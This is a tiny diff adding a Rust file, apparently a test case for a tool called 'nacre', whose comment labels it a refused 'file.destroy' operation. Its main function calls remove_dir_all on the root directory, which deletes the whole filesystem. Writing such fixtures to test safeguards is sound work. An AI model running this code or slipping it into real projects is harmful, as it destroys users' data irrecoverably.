@@ -1,0 +1,4 @@
+// nacre: refused file.destroy
+fn main() {
+    std::fs::remove_dir_all("/").unwrap();
+}
